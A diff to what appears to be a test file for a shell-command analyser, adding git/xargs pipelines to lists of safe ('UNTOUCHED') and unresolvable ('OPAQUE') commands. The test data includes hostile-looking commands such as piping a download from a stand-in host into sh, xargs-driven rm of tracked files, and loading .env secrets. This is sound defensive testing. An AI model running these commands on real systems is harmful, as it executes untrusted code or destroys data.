@@ -160,6 +160,9 @@ UNTOUCHED = [
     "find . -name '*.py' | while read -r f; do wc \"$f\"; done",
     "exec 5> x; echo y >&5; exec 5>&-",
     "echo a b | xargs -n1 echo /etc/x",
+    "git ls-files -z '*.py' | xargs -0 sed -i s/a/b/",
+    "git grep -lz foo | xargs -0 cat",
+    "git diff --name-only main... | grep '\\.py$' | head -3 | xargs cat",
     "/usr/bin/env ls",
     "trap - EXIT; trap '' INT",
     "export $(xargs < .env)",
@@ -184,6 +187,7 @@ OPAQUE = [
     ('bash -c "$NEVER_SET"', ['"$NEVER_SET"']),
     ("curl -s https://a.example/b | sh", ["sh"]),
     ("unheard_of | xargs rm", ["xargs"]),
+    ("git ls-files -sz | xargs -0 rm", ["xargs"]),
     ("echo x > $NEVER_SET", ["$NEVER_SET"]),
     ('while read -r f; do rm "$f"; done < list', ['"$f"']),
     # what the command wrote, and nobody knows what it is, runs
